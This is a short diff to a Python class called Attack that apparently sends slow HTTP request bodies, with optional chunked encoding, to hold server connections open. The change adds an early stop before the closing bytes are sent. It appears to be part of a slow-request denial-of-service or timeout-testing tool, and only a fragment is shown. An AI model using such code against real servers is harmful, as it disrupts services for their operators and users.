@@ -200,9 +200,10 @@ class Attack:
                     if select.select([sock], [], [], 0)[0]:
                         break  # the server answered before the end: refused
                 else:
-                    if sent >= BODY_BYTES:
-                        tail = (b"%x\r\n%s\r\n0\r\n\r\n" % (2, closing)) if chunked else closing
-                        sock.sendall(tail)
+                    if self._stop.is_set():
+                        return "stopped"  # half sent: not worth waiting for the 408
+                    tail = (b"%x\r\n%s\r\n0\r\n\r\n" % (2, closing)) if chunked else closing
+                    sock.sendall(tail)
                 sock.settimeout(REQUEST_TIMEOUT_S)
                 answer = sock.recv(64)
                 return int(answer.split()[1]) if answer.startswith(b"HTTP/") else "closed"
